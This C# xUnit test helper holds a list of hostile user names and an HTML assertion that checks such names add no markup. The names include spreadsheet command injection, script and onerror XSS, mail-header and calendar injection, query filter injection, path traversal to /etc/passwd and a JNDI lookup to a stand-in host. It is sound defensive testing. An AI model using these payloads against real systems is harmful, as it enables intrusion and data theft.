using Xunit.Sdk;

namespace Functions.Tests.Privacy;

/// <summary>Names as somebody would choose them who wants a spreadsheet, a browser, a mail server, a query or a reader to do something else than show them.</summary>
internal static class Hostile
{
    public static IReadOnlyList<string> Names { get; } =
    [
        "=cmd|' /C calc'!A0",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "Ada\r\nBcc: everybody@customers.example",
        "Ada\nEND:VEVENT\nBEGIN:VEVENT",
        "' or PartitionKey ne '",
        "{insurer} {code} {link}",
        "Ada\u202Etxt.exe",
        "../../../etc/passwd",
        "%27%20or%201%20eq%201",
        "javascript:alert(1)",
        "${jndi:ldap://x.example/a}",
    ];

    /// <summary>HTML in which nothing of a name has become markup: every tag of it would have been there without the name.</summary>
    public static void AssertHarmless(string html, string name, string htmlOfHarmless)
    {
        foreach (var tag in new[] { "<script", "<img", "<p", "<a ", "<li", "<td", "<h1", "<form", "onerror=alert(1)>" })
        {
            if (Count(html, tag) != Count(htmlOfHarmless, tag))
            {
                throw new XunitException($"The name '{name}' changed the markup: {tag}");
            }
        }
    }

    private static int Count(string text, string part) => text.Split(part).Length;
}
